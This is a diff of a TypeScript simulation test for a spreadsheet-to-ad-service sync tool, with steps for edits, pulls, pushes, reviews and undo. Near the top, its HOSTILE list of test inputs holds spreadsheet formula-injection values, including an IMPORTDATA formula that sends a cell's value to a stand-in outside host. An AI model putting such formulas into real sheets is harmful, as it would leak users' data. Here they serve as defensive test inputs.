@@ -21,7 +21,7 @@ import { type Cell, type Kind, type SimTab, TABS } from './tabs';
 import { ANNA, type Beside, BORIS, type Mishap } from './world';
 
 /** Values of the service that a spreadsheet tends to convert. */
-const HOSTILE = [
+export const HOSTILE = [
   '=HYPERLINK("https://x.invalid/","c")',
   '=IMPORTDATA("https://x.invalid/"&A1)',
   '=1+1',
@@ -40,204 +40,12 @@ const HOSTILE = [
   '@home',
   '🎮 up',
 ];
-const COUNTRIES = ['US', 'DE', 'FR', 'MX', 'JP', 'BR'];
+export const COUNTRIES = ['US', 'DE', 'FR', 'MX', 'JP', 'BR'];
 
-/** Steps that a mode makes more likely. */
-export type StepName = keyof typeof STEPS;
-export type Weights = Partial<Record<StepName, number>>;
+export type Step = (sim: Sim, dice: Dice) => Promise<string>;
 
-const BASE: Weights = {
-  edit: 22,
-  editAgain: 4,
-  newRow: 3,
-  automatic: 3,
-  clear: 2,
-  formula: 1,
-  sort: 4,
-  insertRows: 2,
-  deleteRow: 2,
-  insertColumn: 1,
-  moveColumn: 1,
-  note: 2,
-  filter: 1,
-  renameTab: 1,
-  copyTab: 0.4,
-  disable: 2,
-  sortLog: 1,
-  trimLog: 1,
-  elsewhere: 10,
-  pull: 6,
-  check: 3,
-  fix: 2,
-  review: 9,
-  resolve: 4,
-  resolveAll: 1,
-  revert: 2,
-  push: 12,
-  stepJob: 9,
-  finishJob: 6,
-  cancel: 1,
-  undoLook: 2,
-  undoStart: 3,
-  twoWindows: 1,
-  chooseCompany: 1,
-  clock: 1,
-};
-
-/** Each seed belongs to one of them. */
-export const MODES: Readonly<Record<string, Weights>> = {
-  all: BASE,
-  colleagues: {
-    ...BASE,
-    elsewhere: 16,
-    elsewhereJust: 26,
-    review: 18,
-    push: 26,
-    finishJob: 12,
-    resolve: 8,
-    resolveAll: 4,
-  },
-  countries: {
-    edit: 8,
-    targetsEdit: 20,
-    editDisabled: 14,
-    disable: 20,
-    enable: 6,
-    elsewhere: 5,
-    pull: 6,
-    review: 3,
-    pushAll: 34,
-    undoAll: 6,
-    finishJob: 4,
-  },
-  formats: {
-    ...BASE,
-    automatic: 26,
-    hostileElsewhere: 26,
-    pull: 16,
-    pushAll: 10,
-    resolve: 6,
-    resolveAll: 6,
-    review: 8,
-    revert: 8,
-  },
-  sheet: {
-    ...BASE,
-    sort: 14,
-    insertRows: 8,
-    deleteRow: 6,
-    insertColumn: 6,
-    moveColumn: 8,
-    note: 8,
-    pull: 12,
-    check: 8,
-    pushAll: 8,
-  },
-  companies: {
-    edit: 20,
-    newRow: 14,
-    review: 20,
-    chooseCompany: 18,
-    push: 24,
-    stepJob: 10,
-    finishJob: 8,
-    pull: 4,
-    elsewhere: 3,
-  },
-  lost: {
-    edit: 20,
-    assetEdit: 6,
-    newRow: 10,
-    elsewhere: 8,
-    elsewhereJust: 10,
-    review: 3,
-    lostPush: 26,
-    finishJob: 10,
-    stepJob: 6,
-    pull: 6,
-    pushAll: 6,
-    clock: 4,
-  },
-  undo: {
-    edit: 14,
-    targetsEdit: 8,
-    disable: 8,
-    sortLog: 6,
-    trimLog: 6,
-    elsewhere: 8,
-    pushAll: 24,
-    undoAll: 26,
-    undoLook: 4,
-    undoStart: 6,
-    pull: 4,
-    finishJob: 6,
-  },
-  log: {
-    edit: 30,
-    pushSlow: 26,
-    stepJob: 26,
-    sortLog: 22,
-    trimLog: 14,
-    finishJob: 6,
-    elsewhere: 3,
-    undoAll: 4,
-  },
-  choices: {
-    edit: 14,
-    editAgain: 14,
-    elsewhere: 16,
-    elsewhereJust: 10,
-    pull: 12,
-    review: 14,
-    resolve: 18,
-    resolveAll: 10,
-    revert: 12,
-    check: 6,
-    fix: 10,
-    sort: 5,
-    finishJob: 4,
-  },
-  typing: {
-    edit: 14,
-    typingCheck: 4,
-    typingPull: 26,
-    typingPush: 16,
-    elsewhere: 24,
-    pull: 6,
-    formula: 4,
-    finishJob: 6,
-  },
-  windows: {
-    edit: 22,
-    targetsEdit: 8,
-    newRow: 5,
-    twoWindows: 34,
-    elsewhere: 6,
-    pull: 6,
-    pushAll: 6,
-    pushSlow: 6,
-    cancel: 3,
-    finishJob: 4,
-  },
-  faults: { ...BASE, lostPush: 12, killedCall: 18, clock: 6, finishJob: 14 },
-};
-
-/** The mode with an attacker. */
-export const HOSTILE_MODE: Weights = {
-  ...BASE,
-  tamper: 24,
-  tamperMetadata: 3,
-  anyCall: 22,
-  madeUpPush: 6,
-  pushAll: 12,
-  undoAll: 4,
-  twoWindows: 0,
-};
-
-type Step = (sim: Sim, dice: Dice) => Promise<string>;
-
-const otherOf = (user: string): string => (user === ANNA ? BORIS : ANNA);
-const anyone = (dice: Dice): string => (dice.chance(0.75) ? ANNA : BORIS);
+export const otherOf = (user: string): string => (user === ANNA ? BORIS : ANNA);
+export const anyone = (dice: Dice): string => (dice.chance(0.75) ? ANNA : BORIS);
 
 // ---- at the grid -------------------------------------------------------------------------------------------------
 
@@ -263,10 +71,10 @@ export function newValue(sim: Sim, dice: Dice, kind: Kind, was: Cell): Cell {
 }
 
 /** Rows of the service: those that have an ID, or their own keys. */
-const known = (tab: SimTab, row: SeenRow): boolean =>
+export const known = (tab: SimTab, row: SeenRow): boolean =>
   tab.keys.every((header) => row.cells[header]?.value != null);
 
-function editable(tab: SimTab, row: SeenRow): string[] {
+export function editable(tab: SimTab, row: SeenRow): string[] {
   return Object.entries(tab.edits)
     .filter(([header, kind]) => {
       const value = row.cells[header]?.value ?? null;
@@ -280,7 +88,7 @@ function editable(tab: SimTab, row: SeenRow): string[] {
     .map(([header]) => header);
 }
 
-async function type(
+export async function type(
   sim: Sim,
   user: string,
   sheet: SeenSheet,
@@ -306,7 +114,7 @@ async function type(
   for (const { ok, error } of results) if (!ok) sim.trace.push(`onEdit: ${error?.message}`);
 }
 
-async function editSomewhere(sim: Sim, dice: Dice, ids?: readonly string[]): Promise<string> {
+export async function editSomewhere(sim: Sim, dice: Dice, ids?: readonly string[]): Promise<string> {
   const sheet = pickTab(sim, dice, ids ?? TABS.filter(({ id }) => id !== 'app-lists').map(({ id }) => id));
   const tab = sheet && tabOfSheet(sim, sheet);
   const rows =
@@ -348,7 +156,7 @@ const editAgain: Step = async (sim, dice) => {
 };
 
 /** A paste from elsewhere sets the cell's format to Automatic. */
-const automatic: Step = async (sim, dice) => {
+export const automatic: Step = async (sim, dice) => {
   const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'ads', 'assets', 'targets']);
   const tab = sheet && tabOfSheet(sim, sheet);
   const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
@@ -390,7 +198,7 @@ const formula: Step = async (sim, dice) => {
   return `formula targets row ${row.row} Bid ${text}`;
 };
 
-const NEW_CAMPAIGN = (name: string): Record<string, Cell> => ({
+export const NEW_CAMPAIGN = (name: string): Record<string, Cell> => ({
   Name: name,
   Active: true,
   Platform: 'android',
@@ -400,16 +208,19 @@ const NEW_CAMPAIGN = (name: string): Record<string, Cell> => ({
   'Tracking method': 'custom_track',
 });
 
-const newRow: Step = async (sim, dice) => {
-  const id = dice.pick([
-    'campaigns',
-    'campaigns',
-    'sources',
-    'source-bids',
-    'creative-sets',
-    'app-lists',
-    'targets',
-  ])!;
+const NEW_ROWS = [
+  'campaigns',
+  'campaigns',
+  'sources',
+  'source-bids',
+  'creative-sets',
+  'app-lists',
+  'targets',
+];
+
+/** @param wanted ID of the tab */
+export const newRow = async (sim: Sim, dice: Dice, wanted?: string): Promise<string> => {
+  const id = wanted ?? dice.pick(NEW_ROWS)!;
   const sheet = sim.oracle.sheetOf(id);
   const campaigns = sim.oracle.sheetOf('campaigns');
   const campaign = dice.pick(
@@ -455,7 +266,7 @@ const newRow: Step = async (sim, dice) => {
   return `new row ${row} of ${id} ${JSON.stringify(cells)}`;
 };
 
-const disable: Step = async (sim, dice) => {
+export const disable: Step = async (sim, dice) => {
   const sheet = sim.oracle.sheetOf('targets');
   const row = dice.pick(
     (sheet?.rows ?? []).filter(
@@ -485,7 +296,7 @@ const enable: Step = async (sim, dice) => {
   return `enable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
 };
 
-const sort: Step = async (sim, dice) => {
+export const sort: Step = async (sim, dice) => {
   const sheet = pickTab(sim, dice);
   if (!sheet) return 'nothing to sort';
   const column = dice.whole(1, Math.max(1, sheet.headers.length));
@@ -581,7 +392,7 @@ const trimLog: Step = async (sim, dice) => {
 
 // ---- at the service ----------------------------------------------------------------------------------------------
 
-function changeService(sim: Sim, change: () => string): string {
+export function changeService(sim: Sim, change: () => string): string {
   const company = sim.world.service.companies[0]!.company_id;
   const before = sim.world.held(company);
   const what = change();
@@ -589,7 +400,7 @@ function changeService(sim: Sim, change: () => string): string {
   return `elsewhere: ${what}`;
 }
 
-function changeSomething(sim: Sim, dice: Dice, hostile: boolean): string {
+export function changeSomething(sim: Sim, dice: Dice, hostile: boolean): string {
   const { state, companies } = sim.world.service;
   const company = companies[0]!.company_id;
   const campaigns = [...state.campaigns.values()].filter(({ company_id }) => company_id === company);
@@ -718,7 +529,7 @@ const elsewhereJust: Step = async (sim, dice) =>
   });
 
 /** Renames the last created object at the service. */
-const renameCreated: Step = async (sim, dice) =>
+export const renameCreated: Step = async (sim, dice) =>
   changeService(sim, () => {
     const { state } = sim.world.service;
     const made = [...state.campaigns.values()].filter(({ origin }) => origin === 'created');
@@ -737,7 +548,7 @@ const clock: Step = async (sim, dice) => {
 
 // ---- in the sidebar ----------------------------------------------------------------------------------------------
 
-const finish = async (sim: Sim, user: string, most = 30): Promise<void> => {
+export const finish = async (sim: Sim, user: string, most = 30): Promise<void> => {
   for (let i = 0; i < most && sim.job; i += 1) {
     const stepped = await sim.ask<JobSeen & { resumeAt: number | null }>(user, 'jobStep', [sim.job]);
     if (stepped.cut || !stepped.ok) return;
@@ -746,7 +557,7 @@ const finish = async (sim: Sim, user: string, most = 30): Promise<void> => {
   }
 };
 
-async function startPull(sim: Sim, user: string, trouble: Trouble = {}): Promise<boolean> {
+export async function startPull(sim: Sim, user: string, trouble: Trouble = {}): Promise<boolean> {
   const started = await sim.ask<JobSeen>(user, 'pullStart', pullArgs());
   sim.saw(started.value);
   if (!started.ok || !sim.job) return false;
@@ -763,7 +574,7 @@ const pull: Step = async (sim, dice) => {
   return `${user} pulls`;
 };
 
-async function lookAtReview(sim: Sim, user: string): Promise<ReviewSeen | null> {
+export async function lookAtReview(sim: Sim, user: string): Promise<ReviewSeen | null> {
   const built = await sim.ask<ReviewSeen>(user, 'reviewBuild', []);
   if (built.ok && built.value) sim.people[user]!.review = built.value;
   return built.ok ? (built.value ?? null) : null;
@@ -775,14 +586,19 @@ const review: Step = async (sim, dice) => {
   return `${user} reviews ${view?.rows.length} rows, ${view?.conflicts.length} conflicts`;
 };
 
-async function startPush(sim: Sim, dice: Dice, user: string, trouble: Trouble = {}): Promise<boolean> {
+/** @param leave the rows that the person leaves out; absent: chance decides */
+export async function startPush(
+  sim: Sim,
+  dice: Dice,
+  user: string,
+  leave?: readonly { readonly tab: string; readonly key: string }[],
+): Promise<boolean> {
   const view = sim.people[user]!.review;
   if (!view || view.rows.length === 0) return false;
-  const leaveOut = dice.chance(0.2)
-    ? view.rows.filter(() => dice.chance(0.3)).map(({ tab, key }) => ({ tab, key }))
-    : [];
+  const some = dice.chance(0.2) ? view.rows.filter(() => dice.chance(0.3)) : [];
+  const leaveOut = (leave ?? some).map(({ tab, key }) => ({ tab, key }));
   const approval = sim.oracle.approve(user, 'push', view.account, approvedRows(view.rows, leaveOut));
-  const started = await sim.ask<JobSeen>(user, 'pushStart', pushArgs(view, leaveOut), trouble);
+  const started = await sim.ask<JobSeen>(user, 'pushStart', pushArgs(view, leaveOut));
   if (started.ok && started.value) {
     approval.job = jobOf(started.value).id;
     sim.jobOwner = user;
@@ -798,7 +614,7 @@ async function startPush(sim: Sim, dice: Dice, user: string, trouble: Trouble = 
   return false;
 }
 
-const push: Step = async (sim, dice) => {
+export const push: Step = async (sim, dice) => {
   const user = anyone(dice);
   const began = await startPush(sim, dice, user);
   if (began && dice.chance(0.6)) await finish(sim, user);
@@ -830,7 +646,7 @@ const pushSlow: Step = async (sim, dice) => {
   return `${user} pushes; ${trouble.killAt ? 'killed' : 'the log changes'} at call ${at}`;
 };
 
-const MISHAPS: readonly Mishap[] = [
+export const MISHAPS: readonly Mishap[] = [
   'drop-before',
   'drop-after',
   'drop-after',
@@ -937,7 +753,7 @@ const resolveAll: Step = async (sim, dice) => {
   return applyChoice(sim, who, who.review.conflicts, dice.pick(['mine', 'theirs'] as const)!, true);
 };
 
-async function applyChoice(
+export async function applyChoice(
   sim: Sim,
   who: Person,
   conflicts: ReviewSeen['conflicts'],
@@ -1002,7 +818,7 @@ const fix: Step = async (sim, dice) => {
   return `${user} fixes ${chosen.length}: ${done.ok || done.sentence}`;
 };
 
-async function lookAtUndo(sim: Sim, dice: Dice, user: string): Promise<UndoSeen | null> {
+export async function lookAtUndo(sim: Sim, dice: Dice, user: string): Promise<UndoSeen | null> {
   const runs = await sim.ask<{ runs: { run: string; undoes: string }[] }>(user, 'undoRuns', [10]);
   const run = dice.pick(runs.value?.runs ?? []);
   if (!run) return null;
@@ -1017,7 +833,7 @@ const undoLook: Step = async (sim, dice) => {
   return `${user} looks at an undo of ${view?.rows.length ?? 'no'} rows`;
 };
 
-const undoStart: Step = async (sim, dice) => {
+export const undoStart: Step = async (sim, dice) => {
   const user = anyone(dice);
   const view = sim.people[user]!.undo;
   if (!view || view.rows.length === 0) return 'nothing to undo';
@@ -1058,7 +874,7 @@ const chooseCompany: Step = async (sim, dice) => {
 
 // ---- while an execution runs -------------------------------------------------------------------------------------
 
-type Intrusion =
+export type Intrusion =
   | 'typed'
   | 'elsewhere'
   | 'sort'
@@ -1069,7 +885,7 @@ type Intrusion =
   | 'insertColumn'
   | 'moveColumn';
 
-async function intrude(sim: Sim, dice: Dice, among: readonly Intrusion[]): Promise<string> {
+export async function intrude(sim: Sim, dice: Dice, among: readonly Intrusion[]): Promise<string> {
   const what = dice.pick(among)!;
   const did = what === 'typed' ? await edit(sim, dice) : await (STEPS[what] as Step)(sim, dice);
   sim.trace.push(`  meanwhile: ${did}`);
